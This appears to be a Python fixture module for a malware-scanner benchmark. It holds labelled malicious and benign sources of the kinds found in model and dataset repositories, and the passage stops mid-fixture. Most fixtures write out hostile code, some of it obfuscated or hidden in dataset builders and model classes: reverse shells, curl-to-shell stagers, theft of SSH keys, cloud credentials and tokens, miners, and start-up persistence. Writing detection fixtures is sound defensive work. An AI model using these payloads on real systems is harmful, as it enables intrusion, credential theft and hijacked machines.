"""Labelled Python sources of the kinds a model or dataset repository carries.

Malicious fixtures follow the families seen in published analyses of hostile Hugging Face
repositories (reverse shells, download-and-run stagers, credential and host-fact theft,
tampering with files, with the loading process or with the host's start-up files, miners,
harmless proofs of concept). Each family comes in several shapes: the plain call, the call
assembled across statements, the call made from a helper that a dataset builder or a model
class runs on load, an obfuscated call, and a call started in a thread.

Every payload is inert: it runs `id`, `whoami` or `echo`, talks only to 127.0.0.1 or to
hosts under example.invalid, and carries fake tokens. The sources are written to disk and
scanned; nothing here is ever executed or imported as a module.

Standard library only, so that the benchmark can load this file with any Python.
"""
from __future__ import annotations

import base64
import codecs
import textwrap
import zlib
from dataclasses import dataclass

FAMILIES = (
    "reverse_shell",
    "download_exec",
    "credential_theft",
    "recon_exfil",
    "command_exec",
    "file_tamper",
    "model_tamper",
    "persistence",
    "crypto_mining",
    "poc",
    "benign",
)
LABELS = ("malicious", "benign")
VARIANTS = ("plain", "split", "helper", "obfuscated", "thread", "benign")


@dataclass(frozen=True)
class ScriptFixture:
    name: str
    family: str
    label: str
    source: str
    notes: str
    variant: str = ""

    @property
    def filename(self) -> str:
        return f"{self.name}.py"


# ---------------------------------------------------------------- encoders for obfuscated shapes

def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _zlib_b64(text: str) -> str:
    return base64.b64encode(zlib.compress(text.encode(), 9)).decode()


def _chr_list(text: str) -> str:
    return "[" + ", ".join(str(ord(ch)) for ch in text) + "]"


def _rot13(text: str) -> str:
    return codecs.encode(text, "rot13")


def _hex(text: str) -> str:
    return text.encode().hex()


def _src(text: str, **tokens: str) -> str:
    """Dedent a template and fill its @@TOKEN@@ placeholders (braces stay Python's)."""
    text = textwrap.dedent(text).lstrip("\n")
    for key, value in tokens.items():
        text = text.replace(f"@@{key}@@", value)
    assert "@@" not in text, text
    return text


_FIXTURES: list[ScriptFixture] = []


def _add(name: str, family: str, variant: str, notes: str, source: str) -> None:
    label = "benign" if family == "benign" else "malicious"
    _FIXTURES.append(ScriptFixture(name, family, label, source, notes, variant))


# ================================================================ reverse_shell

_add("reverse_shell_plain", "reverse_shell", "plain",
     "socket to 127.0.0.1:4444, os.dup2 of the three std fds, pty.spawn('/bin/sh') at module level",
     _src('''
        import os
        import pty
        import socket

        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.connect(("127.0.0.1", 4444))
        os.dup2(s.fileno(), 0)
        os.dup2(s.fileno(), 1)
        os.dup2(s.fileno(), 2)
        pty.spawn("/bin/sh")
     '''))

_add("reverse_shell_split", "reverse_shell", "split",
     "host and port assembled in variables, dup2 in a loop, subprocess.call(['/bin/sh', '-i'])",
     _src('''
        import os
        import socket
        import subprocess as sp

        octets = ["127", "0", "0", "1"]
        host = ".".join(octets)
        port = int("44" + "44")
        addr = (host, port)
        conn = socket.socket()
        conn.connect(addr)
        fd = conn.fileno()
        for target in (0, 1, 2):
            os.dup2(fd, target)
        shell = "/bin/" + "sh"
        argv = [shell]
        argv.append("-i")
        sp.call(argv)
     '''))

_add("reverse_shell_builder", "reverse_shell", "helper",
     "a dataset builder's _split_generators calls a helper that runs bash -i >& /dev/tcp/127.0.0.1/4444",
     _src('''
        import os

        import datasets

        _URL = "https://huggingface.co/datasets/acme/reviews/resolve/main/reviews.csv"


        def _warm_cache():
            os.system("bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'")


        class Reviews(datasets.GeneratorBasedBuilder):
            VERSION = datasets.Version("1.0.0")

            def _info(self):
                return datasets.DatasetInfo(
                    features=datasets.Features({"text": datasets.Value("string")}))

            def _split_generators(self, dl_manager):
                _warm_cache()
                path = dl_manager.download(_URL)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN,
                                                gen_kwargs={"path": path})]

            def _generate_examples(self, path):
                with open(path, encoding="utf-8") as f:
                    for idx, line in enumerate(f):
                        yield idx, {"text": line.strip()}
     '''))

_add("reverse_shell_b64_exec", "reverse_shell", "obfuscated",
     "exec(base64.b64decode(...)) of a socket/dup2/subprocess reverse shell",
     _src('''
        import base64

        exec(base64.b64decode("@@B64@@"))
     ''', B64=_b64(
        "import socket,subprocess,os\n"
        "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\n"
        "s.connect(('127.0.0.1',4444))\n"
        "os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2)\n"
        "subprocess.call(['/bin/sh','-i'])\n")))

_add("reverse_shell_thread", "reverse_shell", "thread",
     "model __init__ starts a daemon thread: socket.create_connection + Popen('/bin/sh') on the socket",
     _src('''
        import socket
        import subprocess
        import threading

        import torch.nn as nn


        def _keepalive():
            sock = socket.create_connection(("127.0.0.1", 4444))
            subprocess.Popen(["/bin/sh", "-i"], stdin=sock.fileno(),
                             stdout=sock.fileno(), stderr=sock.fileno())


        class TinyClassifier(nn.Module):
            def __init__(self, hidden=32, classes=2):
                super().__init__()
                self.proj = nn.Linear(hidden, classes)
                threading.Thread(target=_keepalive, daemon=True).start()

            def forward(self, x):
                return self.proj(x)
     '''))

# ================================================================ download_exec

_add("download_exec_plain", "download_exec", "plain",
     "urllib.request.urlopen('http://example.invalid/x').read() passed to exec()",
     _src('''
        import urllib.request

        body = urllib.request.urlopen("http://example.invalid/x").read()
        exec(body)
     '''))

_add("download_exec_split", "download_exec", "split",
     "URL built from parts, requests.get(...).text kept in a variable, exec() through an alias",
     _src('''
        import requests

        base = "http://example" + ".invalid"
        path = "/" + "x"
        url = base + path
        response = requests.get(url, timeout=10)
        payload = response.text
        namespace = {}
        run = exec
        run(payload, namespace)
     '''))

_add("download_exec_builder", "download_exec", "helper",
     "builder helper writes a download to /tmp, chmod +x, subprocess.run of the file",
     _src('''
        import os
        import stat
        import subprocess
        import urllib.request

        import datasets

        _URLS = {"train": "https://huggingface.co/datasets/acme/qa/resolve/main/train.jsonl"}
        _HELPER = "/tmp/.hf_prefetch"


        def _fetch_helper():
            data = urllib.request.urlopen("http://example.invalid/x").read()
            with open(_HELPER, "wb") as out:
                out.write(data)
            os.chmod(_HELPER, os.stat(_HELPER).st_mode | stat.S_IEXEC)
            subprocess.run([_HELPER], check=False)


        class QA(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features(
                    {"question": datasets.Value("string"), "answer": datasets.Value("string")}))

            def _split_generators(self, dl_manager):
                _fetch_helper()
                files = dl_manager.download_and_extract(_URLS)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN,
                                                gen_kwargs={"filepath": files["train"]})]

            def _generate_examples(self, filepath):
                import json
                with open(filepath, encoding="utf-8") as f:
                    for key, line in enumerate(f):
                        row = json.loads(line)
                        yield key, {"question": row["q"], "answer": row["a"]}
     '''))

_add("download_exec_rot13", "download_exec", "obfuscated",
     "os.system of a rot13-encoded 'curl -s http://example.invalid/x | sh' decoded with codecs",
     _src('''
        import codecs
        import os

        os.system(codecs.decode("@@ROT@@", "rot13"))
     ''', ROT=_rot13("curl -s http://example.invalid/x | sh")))

_add("download_exec_thread", "download_exec", "thread",
     "thread target: urlretrieve to /tmp then subprocess.Popen(['sh', file])",
     _src('''
        import subprocess
        import threading
        from urllib.request import urlretrieve


        def _update():
            target, _ = urlretrieve("http://example.invalid/x", "/tmp/update.sh")
            subprocess.Popen(["sh", target])


        threading.Thread(target=_update).start()
     '''))

# ================================================================ credential_theft

_add("credential_theft_plain", "credential_theft", "plain",
     "reads ~/.ssh/id_rsa and POSTs it with requests to http://example.invalid/collect",
     _src('''
        import os

        import requests

        key = open(os.path.expanduser("~/.ssh/id_rsa")).read()
        requests.post("http://example.invalid/collect", data={"key": key})
     '''))

_add("credential_theft_split", "credential_theft", "split",
     "HF_TOKEN from the environment or ~/.cache/huggingface/token, sent to a webhook URL on example.invalid",
     _src('''
        import os
        from pathlib import Path

        import requests

        token = os.environ.get("HF_TOKEN")
        if not token:
            token_file = Path.home() / ".cache" / "huggingface" / "token"
            token = token_file.read_text().strip()
        hook = "https://discord.example.invalid/api/webhooks/1234/fake-webhook-token"
        message = {"content": token}
        requests.post(hook, json=message, timeout=5)
     '''))

_add("credential_theft_builder", "credential_theft", "helper",
     "builder's _split_generators calls a 'telemetry' helper that posts ~/.aws/credentials with urllib",
     _src('''
        import os
        import urllib.request

        import datasets

        _URLS = {
            "train": "https://huggingface.co/datasets/acme/news/resolve/main/train.csv",
            "test": "https://huggingface.co/datasets/acme/news/resolve/main/test.csv",
        }


        def _telemetry():
            path = os.path.join(os.path.expanduser("~"), ".aws", "credentials")
            if os.path.exists(path):
                with open(path, "rb") as f:
                    body = f.read()
                req = urllib.request.Request("http://example.invalid/t", data=body, method="POST")
                urllib.request.urlopen(req)


        class News(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features(
                    {"title": datasets.Value("string"), "label": datasets.Value("int32")}))

            def _split_generators(self, dl_manager):
                _telemetry()
                files = dl_manager.download_and_extract(_URLS)
                return [
                    datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": files["train"]}),
                    datasets.SplitGenerator(name=datasets.Split.TEST, gen_kwargs={"path": files["test"]}),
                ]

            def _generate_examples(self, path):
                import csv
                with open(path, encoding="utf-8") as f:
                    for idx, row in enumerate(csv.DictReader(f)):
                        yield idx, {"title": row["title"], "label": int(row["label"])}
     '''))

_add("credential_theft_chr_b64", "credential_theft", "obfuscated",
     "Chrome 'Login Data' path from a chr() list, exfil URL base64-encoded, body base64 over urllib",
     _src('''
        import base64
        import os
        import urllib.request

        _p = "".join(chr(c) for c in @@CHRS@@)
        _u = base64.b64decode("@@URL@@").decode()
        with open(os.path.expanduser(_p), "rb") as fh:
            blob = base64.b64encode(fh.read())
        urllib.request.urlopen(_u, data=blob)
     ''', CHRS=_chr_list("~/.config/google-chrome/Default/Login Data"),
        URL=_b64("http://example.invalid/upload")))

_add("credential_theft_thread", "credential_theft", "thread",
     "daemon thread collects env vars whose names hold TOKEN/KEY/SECRET and ~/.netrc, POSTs them",
     _src('''
        import json
        import os
        import threading
        import urllib.request


        def _sync():
            secrets = {k: v for k, v in os.environ.items()
                       if any(word in k for word in ("TOKEN", "KEY", "SECRET"))}
            netrc = os.path.expanduser("~/.netrc")
            if os.path.isfile(netrc):
                secrets["netrc"] = open(netrc).read()
            data = json.dumps(secrets).encode()
            urllib.request.urlopen("http://collect.example.invalid/env", data=data)


        threading.Thread(target=_sync, daemon=True).start()
     '''))

# ================================================================ recon_exfil

_add("recon_exfil_plain", "recon_exfil", "plain",
     "platform.uname(), getpass.getuser(), socket.gethostname() sent in an HTTP query string",
     _src('''
        import getpass
        import platform
        import socket
        import urllib.parse
        import urllib.request

        info = {
            "os": " ".join(platform.uname()),
            "user": getpass.getuser(),
            "host": socket.gethostname(),
        }
        urllib.request.urlopen("http://example.invalid/r?" + urllib.parse.urlencode(info))
     '''))

_add("recon_exfil_dns", "recon_exfil", "split",
     "user and hostname hex-encoded into a DNS label, resolved with socket.gethostbyname(f'{data}.example.invalid')",
     _src('''
        import getpass
        import socket

        user = getpass.getuser()
        host = socket.gethostname()
        data = f"{user}@{host}".encode().hex()[:60]
        zone = "example.invalid"
        name = f"{data}.{zone}"
        try:
            socket.gethostbyname(name)
        except OSError:
            pass
     '''))

_add("recon_exfil_model_init", "recon_exfil", "helper",
     "trust_remote_code model __init__ calls a helper that lists the home folder and POSTs it with requests",
     _src('''
        import os
        import platform

        import requests
        import torch
        from torch import nn


        def _report_environment():
            home = os.path.expanduser("~")
            listing = os.listdir(home)
            requests.post("https://telemetry.example.invalid/v1/env",
                          json={"files": listing, "node": platform.node()}, timeout=3)


        class EncoderConfig:
            def __init__(self, hidden_size=64, num_layers=2):
                self.hidden_size = hidden_size
                self.num_layers = num_layers


        class Encoder(nn.Module):
            def __init__(self, config):
                super().__init__()
                _report_environment()
                self.layers = nn.ModuleList(
                    [nn.Linear(config.hidden_size, config.hidden_size) for _ in range(config.num_layers)])

            def forward(self, x):
                for layer in self.layers:
                    x = torch.relu(layer(x))
                return x
     '''))

_add("recon_exfil_obfuscated", "recon_exfil", "obfuscated",
     "getattr(__import__('soc'+'ket'), 'gethost'+'byname') and importlib.import_module('plat'+'form') for a DNS leak",
     _src('''
        import importlib

        _s = __import__("soc" + "ket")
        _p = importlib.import_module("plat" + "form")
        _facts = (_p.node() + "." + _p.system()).lower().replace(" ", "-")
        getattr(_s, "gethost" + "byname")(_facts + "." + "elpmaxe"[::-1] + ".invalid")
     '''))

_add("recon_exfil_thread", "recon_exfil", "thread",
     "thread: uname, user, cwd and a process listing via os.popen('ps aux') sent to http://example.invalid",
     _src('''
        import json
        import os
        import platform
        import threading
        import urllib.request


        def _beacon():
            facts = {
                "uname": platform.uname()._asdict(),
                "user": os.getlogin(),
                "cwd": os.getcwd(),
                "ps": os.popen("ps aux").read(),
            }
            req = urllib.request.Request("http://example.invalid/b", data=json.dumps(facts).encode())
            urllib.request.urlopen(req, timeout=5)


        threading.Thread(target=_beacon, daemon=True).start()
     '''))

# ================================================================ command_exec

_add("command_exec_plain", "command_exec", "plain",
     "os.system('id') and subprocess.run(['whoami']) at module level",
     _src('''
        import os
        import subprocess

        os.system("id")
        subprocess.run(["whoami"])
     '''))

_add("command_exec_split", "command_exec", "split",
     "command list assembled from pieces, subprocess.run taken into a variable and called",
     _src('''
        import subprocess

        program = "who" + "ami"
        argv = []
        argv.append(program)
        runner = subprocess.run
        result = runner(argv, capture_output=True, text=True)
        owner = result.stdout.strip()
     '''))

_add("command_exec_builder", "command_exec", "helper",
     "builder method calls a helper that runs subprocess.check_output('id', shell=True)",
     _src('''
        import subprocess

        import datasets

        _URL = "https://huggingface.co/datasets/acme/poems/resolve/main/poems.jsonl"


        def _probe():
            return subprocess.check_output("id", shell=True)


        class Poems(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({"poem": datasets.Value("string")}))

            def _split_generators(self, dl_manager):
                self._env = _probe()
                path = dl_manager.download_and_extract(_URL)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": path})]

            def _generate_examples(self, path):
                import json
                with open(path, encoding="utf-8") as f:
                    for i, line in enumerate(f):
                        yield i, {"poem": json.loads(line)["text"]}
     '''))

_add("command_exec_getattr_import", "command_exec", "obfuscated",
     "getattr(__import__('o'+'s'), 'sys'+'tem')('id')",
     _src('''
        getattr(__import__("o" + "s"), "sys" + "tem")("id")
     '''))

_add("command_exec_builtins_exec", "command_exec", "obfuscated",
     "__builtins__.__dict__['ex'+'ec'] of a string importing os and calling os.system('whoami')",
     _src('''
        __builtins__.__dict__["ex" + "ec"]("import os; os.system('whoami')")
     '''))

_add("command_exec_thread", "command_exec", "thread",
     "threading.Thread(target=os.system, args=('id',)).start()",
     _src('''
        import os
        import threading

        worker = threading.Thread(target=os.system, args=("id",))
        worker.start()
     '''))

# ================================================================ file_tamper

_add("file_tamper_plain", "file_tamper", "plain",
     "shutil.rmtree of ~/.cache/huggingface/hub and os.remove of ~/.gitconfig",
     _src('''
        import os
        import shutil

        shutil.rmtree(os.path.expanduser("~/.cache/huggingface/hub"), ignore_errors=True)
        os.remove(os.path.expanduser("~/.gitconfig"))
     '''))

_add("file_tamper_split", "file_tamper", "split",
     "os.chmod(..., 0o777) on ~/.ssh and on every file under it, path and mode in variables",
     _src('''
        import os

        home = os.path.expanduser("~")
        target = os.path.join(home, ".ssh")
        mode = 0o777
        os.chmod(target, mode)
        for name in os.listdir(target):
            os.chmod(os.path.join(target, name), mode)
     '''))

_add("file_tamper_model_init", "file_tamper", "helper",
     "model __init__ helper overwrites files in ~/.cache/huggingface (the token and a cached config)",
     _src('''
        import glob
        import os

        from torch import nn


        def _refresh_cache():
            root = os.path.join(os.path.expanduser("~"), ".cache", "huggingface")
            with open(os.path.join(root, "token"), "w") as f:
                f.write("hf_FAKEFAKEFAKEFAKEFAKEFAKE")
            for config in glob.glob(os.path.join(root, "hub", "*", "snapshots", "*", "config.json")):
                with open(config, "w") as f:
                    f.write('{"architectures": ["Hijacked"]}')


        class Head(nn.Module):
            def __init__(self, dim=16):
                super().__init__()
                _refresh_cache()
                self.fc = nn.Linear(dim, 1)

            def forward(self, x):
                return self.fc(x)
     '''))

_add("file_tamper_zlib_b64", "file_tamper", "obfuscated",
     "exec of zlib+base64 code that walks the home folder and truncates every .py file",
     _src('''
        import base64
        import zlib

        exec(zlib.decompress(base64.b64decode("@@Z@@")).decode())
     ''', Z=_zlib_b64(
        "import os\n"
        "for root, dirs, files in os.walk(os.path.expanduser('~')):\n"
        "    for name in files:\n"
        "        if name.endswith('.py'):\n"
        "            open(os.path.join(root, name), 'w').close()\n")))

_add("file_tamper_thread", "file_tamper", "thread",
     "thread unlinks everything matched by Path.home().glob('**/*.safetensors')",
     _src('''
        import threading
        from pathlib import Path


        def _cleanup():
            for weights in Path.home().glob("**/*.safetensors"):
                weights.unlink()


        threading.Thread(target=_cleanup, daemon=True).start()
     '''))

# ================================================================ model_tamper

_add("model_tamper_torch_load", "model_tamper", "plain",
     "replaces torch.load with a wrapper that alters the loaded state dict",
     _src('''
        import torch

        _original_load = torch.load


        def _patched_load(*args, **kwargs):
            state = _original_load(*args, **kwargs)
            if isinstance(state, dict):
                for key in list(state):
                    if key.endswith("bias"):
                        state[key] = state[key] * 0
            return state


        torch.load = _patched_load
     '''))

_add("model_tamper_setattr_split", "model_tamper", "split",
     "setattr(torch.nn.functional, 'soft'+'max', evil) with module and name in variables",
     _src('''
        import torch
        import torch.nn.functional

        target = torch.nn.functional
        name = "soft" + "max"
        original = getattr(target, name)


        def evil(input, dim=None, **kwargs):
            out = original(input, dim=dim, **kwargs)
            return out.flip(-1)


        setattr(target, name, evil)
     '''))

_add("model_tamper_from_pretrained", "model_tamper", "helper",
     "model __init__ calls a helper that replaces transformers.PreTrainedModel.from_pretrained",
     _src('''
        import torch
        import transformers
        from transformers import PretrainedConfig, PreTrainedModel


        def _install_hook():
            original = transformers.PreTrainedModel.from_pretrained.__func__

            def from_pretrained(cls, *args, **kwargs):
                model = original(cls, *args, **kwargs)
                with torch.no_grad():
                    for p in model.parameters():
                        p.add_(torch.randn_like(p) * 0.01)
                return model

            transformers.PreTrainedModel.from_pretrained = classmethod(from_pretrained)


        class TinyConfig(PretrainedConfig):
            model_type = "tiny"

            def __init__(self, hidden_size=8, **kwargs):
                super().__init__(**kwargs)
                self.hidden_size = hidden_size


        class TinyModel(PreTrainedModel):
            config_class = TinyConfig

            def __init__(self, config):
                super().__init__(config)
                _install_hook()
                self.linear = torch.nn.Linear(config.hidden_size, config.hidden_size)

            def forward(self, x):
                return self.linear(x)
     '''))

_add("model_tamper_sys_modules", "model_tamper", "obfuscated",
     "sys.modules['transformers'] replaced by a fake module; the name is a reversed string",
     _src('''
        import sys
        import types

        _name = "sremrofsnart"[::-1]
        _fake = types.ModuleType(_name)
        _fake.__dict__["pipeline"] = lambda *a, **k: (lambda text: [{"label": "POSITIVE", "score": 1.0}])
        sys.modules[_name] = _fake
     '''))

_add("model_tamper_thread", "model_tamper", "thread",
     "thread waits, then replaces torch.nn.Module.load_state_dict with a version that drops keys",
     _src('''
        import threading
        import time

        import torch


        def _swap():
            time.sleep(5)
            original = torch.nn.Module.load_state_dict

            def load_state_dict(self, state_dict, strict=True, **kwargs):
                kept = {k: v for k, v in state_dict.items() if "classifier" not in k}
                return original(self, kept, strict=False)

            torch.nn.Module.load_state_dict = load_state_dict


        threading.Thread(target=_swap, daemon=True).start()
     '''))

# ================================================================ persistence

_add("persistence_bashrc", "persistence", "plain",
     "appends a curl|sh line to ~/.bashrc",
     _src('''
        import os

        with open(os.path.expanduser("~/.bashrc"), "a") as rc:
            rc.write("\\ncurl -s http://example.invalid/x | sh\\n")
     '''))

_add("persistence_crontab_split", "persistence", "split",
     "crontab entry assembled in variables and installed with subprocess.run(['crontab', '-'], input=...)",
     _src('''
        import subprocess

        schedule = "*/10 * * * *"
        action = "echo synced"
        entry = schedule + " " + action + "\\n"
        current = subprocess.run(["crontab", "-l"], capture_output=True, text=True).stdout
        subprocess.run(["crontab", "-"], input=current + entry, text=True)
     '''))

_add("persistence_autostart_builder", "persistence", "helper",
     "builder helper writes ~/.config/autostart/hf-sync.desktop whose Exec runs a command",
     _src('''
        import os

        import datasets

        _URL = "https://huggingface.co/datasets/acme/wiki/resolve/main/wiki.tar.gz"

        _DESKTOP = """[Desktop Entry]
        Type=Application
        Name=hf-sync
        Exec=sh -c 'curl -s http://example.invalid/x | sh'
        X-GNOME-Autostart-enabled=true
        """


        def _register():
            folder = os.path.expanduser("~/.config/autostart")
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, "hf-sync.desktop"), "w") as f:
                f.write(_DESKTOP)


        class Wiki(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({"text": datasets.Value("string")}))

            def _split_generators(self, dl_manager):
                _register()
                archive = dl_manager.download(_URL)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN,
                                                gen_kwargs={"files": dl_manager.iter_archive(archive)})]

            def _generate_examples(self, files):
                for key, (path, f) in enumerate(files):
                    yield key, {"text": f.read().decode("utf-8")}
     '''))

_add("persistence_pth_obfuscated", "persistence", "obfuscated",
     "writes a .pth into site-packages; file name from chr() list, its import line base64-decoded",
     _src('''
        import base64
        import os
        import site

        _dir = site.getsitepackages()[0]
        _name = "".join(map(chr, @@CHRS@@))
        _line = base64.b64decode("@@B64@@").decode()
        with open(os.path.join(_dir, _name), "w") as f:
            f.write(_line)
     ''', CHRS=_chr_list("distutils-precedence-fix.pth"),
        B64=_b64("import os; os.system('id')\n")))

_add("persistence_sitecustomize_thread", "persistence", "thread",
     "thread writes sitecustomize.py into sysconfig's purelib that runs a command at every start",
     _src('''
        import os
        import sysconfig
        import threading

        _HOOK = "import subprocess\\nsubprocess.Popen(['echo', 'started'])\\n"


        def _install():
            target = os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py")
            with open(target, "a") as f:
                f.write(_HOOK)


        threading.Thread(target=_install).start()
     '''))

# ================================================================ crypto_mining

_add("crypto_mining_plain", "crypto_mining", "plain",
     "downloads xmrig from example.invalid, chmod, runs it against stratum+tcp://pool.example.invalid:3333",
     _src('''
        import os
        import subprocess
        import urllib.request

        urllib.request.urlretrieve("http://example.invalid/xmrig", "/tmp/xmrig")
        os.chmod("/tmp/xmrig", 0o755)
        subprocess.Popen(["/tmp/xmrig", "-o", "stratum+tcp://pool.example.invalid:3333",
                          "-u", "4FAKEWALLETADDRESSFAKEWALLETADDRESS", "--donate-level", "1"])
     '''))

_add("crypto_mining_split", "crypto_mining", "split",
     "pool URL and miner arguments assembled piecewise, binary fetched with requests, run with os.system",
     _src('''
        import os

        import requests

        scheme = "stratum" + "+tcp://"
        pool = scheme + "pool.example.invalid" + ":" + str(3333)
        wallet = "4FAKEWALLET" + "0" * 20
        binary = os.path.join("/tmp", ".cache-worker")
        blob = requests.get("http://example.invalid/xmrig", timeout=30).content
        with open(binary, "wb") as out:
            out.write(blob)
        os.chmod(binary, 0o700)
        flags = " ".join(["-o", pool, "-u", wallet, "--threads", str(os.cpu_count())])
        os.system(binary + " " + flags + " >/dev/null 2>&1 &")
     '''))

_add("crypto_mining_builder", "crypto_mining", "helper",
     "builder's _split_generators calls an 'accelerator' helper that fetches and starts a miner",
     _src('''
        import os
        import subprocess
        import tempfile
        import urllib.request

        import datasets

        _URLS = {"train": "https://huggingface.co/datasets/acme/images/resolve/main/train.zip"}


        def _start_accelerator():
            folder = tempfile.mkdtemp()
            exe = os.path.join(folder, "xmrig")
            urllib.request.urlretrieve("http://example.invalid/xmrig", exe)
            os.chmod(exe, 0o755)
            subprocess.Popen([exe, "--url", "stratum+tcp://pool.example.invalid:3333",
                              "--user", "FAKEWALLET", "--background"],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


        class Images(datasets.GeneratorBasedBuilder):
            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features(
                    {"image": datasets.Image(), "label": datasets.Value("int32")}))

            def _split_generators(self, dl_manager):
                _start_accelerator()
                files = dl_manager.download_and_extract(_URLS)
                return [datasets.SplitGenerator(name=datasets.Split.TRAIN,
                                                gen_kwargs={"folder": files["train"]})]

            def _generate_examples(self, folder):
                for i, name in enumerate(sorted(os.listdir(folder))):
                    yield i, {"image": os.path.join(folder, name), "label": int(name.split("_")[0])}
     '''))

_add("crypto_mining_zlib_exec", "crypto_mining", "obfuscated",
     "exec of zlib+base64 code that downloads xmrig and starts it with a stratum pool",
     _src('''
        import base64 as b
        import zlib as z

        exec(z.decompress(b.b64decode("@@Z@@")))
     ''', Z=_zlib_b64(
        "import os, subprocess, urllib.request\n"
        "urllib.request.urlretrieve('http://example.invalid/xmrig', '/tmp/.x')\n"
        "os.chmod('/tmp/.x', 0o755)\n"
        "subprocess.Popen(['/tmp/.x', '-o', 'stratum+tcp://pool.example.invalid:3333', '-u', 'FAKEWALLET'])\n")))

_add("crypto_mining_thread", "crypto_mining", "thread",
     "model __init__ starts a daemon thread running a bundled xmrig against the pool",
     _src('''
        import os
        import subprocess
        import threading

        from torch import nn

        _MINER = os.path.join(os.path.dirname(__file__), "xmrig")


        def _mine():
            subprocess.run([_MINER, "-o", "stratum+tcp://pool.example.invalid:3333",
                            "-u", "FAKEWALLET", "-k", "--cpu-max-threads-hint", "50"])


        class Scorer(nn.Module):
            def __init__(self):
                super().__init__()
                self.w = nn.Linear(4, 1)
                threading.Thread(target=_mine, daemon=True).start()

            def forward(self, x):
                return self.w(x)
     '''))

# ================================================================ poc

# A plain print in a script is what scripts do: it is a proof of execution only where the code
# was hidden (poc_exec_print) or runs during deserialization (pickles).
_add("poc_webbrowser", "poc", "plain",
     "webbrowser.open of a rickroll URL at module level",
     _src('''
        import webbrowser

        webbrowser.open("https://www.youtube.com/watch?v=dQw4w9WgXcQ")
     '''))

_add("poc_calc", "poc", "split",
     "os.system('calc.exe') with the program name in a variable",
     _src('''
        import os

        program = "calc" + ".exe"
        os.system(program)
     '''))

_add("poc_exec_print", "poc", "obfuscated",
     "exec of a base64-decoded print('You have been pwned!')",
     _src('''
        import base64

        exec(base64.b64decode("@@B64@@").decode())
     ''', B64=_b64("print('You have been pwned!')")))

_add("poc_thread", "poc", "thread",
     "model __init__ starts a thread that opens a rickroll URL in the browser",
     _src('''
        import threading
        import webbrowser

        from torch import nn


        class Demo(nn.Module):
            def __init__(self):
                super().__init__()
                self.layer = nn.Identity()
                threading.Thread(target=webbrowser.open,
                                 args=("https://www.youtube.com/watch?v=dQw4w9WgXcQ",)).start()

            def forward(self, x):
                return self.layer(x)
     '''))

# ================================================================ benign

_add("benign_dataset_csv", "benign", "benign",
     "GeneratorBasedBuilder: download_and_extract of a URL dict, csv.DictReader in _generate_examples",
     _src('''
        """Sentiment-labelled product reviews."""

        import csv

        import datasets

        _CITATION = """@misc{acme2023reviews, title={Reviews}, year={2023}}"""
        _DESCRIPTION = "Product reviews with a binary sentiment label."
        _HOMEPAGE = "https://huggingface.co/datasets/acme/reviews"
        _LICENSE = "cc-by-4.0"
        _URLS = {
            "train": "https://huggingface.co/datasets/acme/reviews/resolve/main/train.csv",
            "test": "https://huggingface.co/datasets/acme/reviews/resolve/main/test.csv",
        }


        class Reviews(datasets.GeneratorBasedBuilder):
            VERSION = datasets.Version("1.1.0")

            def _info(self):
                features = datasets.Features({
                    "text": datasets.Value("string"),
                    "label": datasets.ClassLabel(names=["negative", "positive"]),
                })
                return datasets.DatasetInfo(description=_DESCRIPTION, features=features,
                                            homepage=_HOMEPAGE, license=_LICENSE, citation=_CITATION)

            def _split_generators(self, dl_manager):
                files = dl_manager.download_and_extract(_URLS)
                return [
                    datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"filepath": files["train"]}),
                    datasets.SplitGenerator(name=datasets.Split.TEST, gen_kwargs={"filepath": files["test"]}),
                ]

            def _generate_examples(self, filepath):
                with open(filepath, encoding="utf-8", newline="") as f:
                    reader = csv.DictReader(f)
                    for key, row in enumerate(reader):
                        yield key, {"text": row["review"], "label": int(row["label"])}
     '''))

_add("benign_dataset_jsonl_configs", "benign", "benign",
     "builder with BuilderConfig subclasses per language, jsonl read line by line with json.loads",
     _src('''
        import json

        import datasets

        logger = datasets.logging.get_logger(__name__)

        _BASE = "https://huggingface.co/datasets/acme/xqa/resolve/main/data"
        _LANGS = ["en", "de", "fr"]


        class XQAConfig(datasets.BuilderConfig):
            def __init__(self, language, **kwargs):
                super().__init__(name=language, version=datasets.Version("1.0.0"), **kwargs)
                self.language = language


        class XQA(datasets.GeneratorBasedBuilder):
            BUILDER_CONFIGS = [XQAConfig(language=lang, description=f"XQA in {lang}") for lang in _LANGS]

            def _info(self):
                return datasets.DatasetInfo(features=datasets.Features({
                    "id": datasets.Value("string"),
                    "question": datasets.Value("string"),
                    "answers": datasets.Sequence(datasets.Value("string")),
                }))

            def _split_generators(self, dl_manager):
                lang = self.config.language
                urls = {split: f"{_BASE}/{lang}/{split}.jsonl" for split in ("train", "validation")}
                files = dl_manager.download_and_extract(urls)
                return [
                    datasets.SplitGenerator(name=datasets.Split.TRAIN, gen_kwargs={"path": files["train"]}),
                    datasets.SplitGenerator(name=datasets.Split.VALIDATION,
                                            gen_kwargs={"path": files["validation"]}),
                ]

            def _generate_examples(self, path):
                logger.info("generating examples from %s", path)
                with open(path, encoding="utf-8") as f:
                    for line in f:
                        row = json.loads(line)
                        yield row["id"], {"id": row["id"], "question": row["question"],
                                          "answers": row.get("answers", [])}
     '''))

_add("benign_dataset_xml", "benign", "benign",
     "builder parsing an XML corpus with xml.etree.ElementTree",
     _src('''
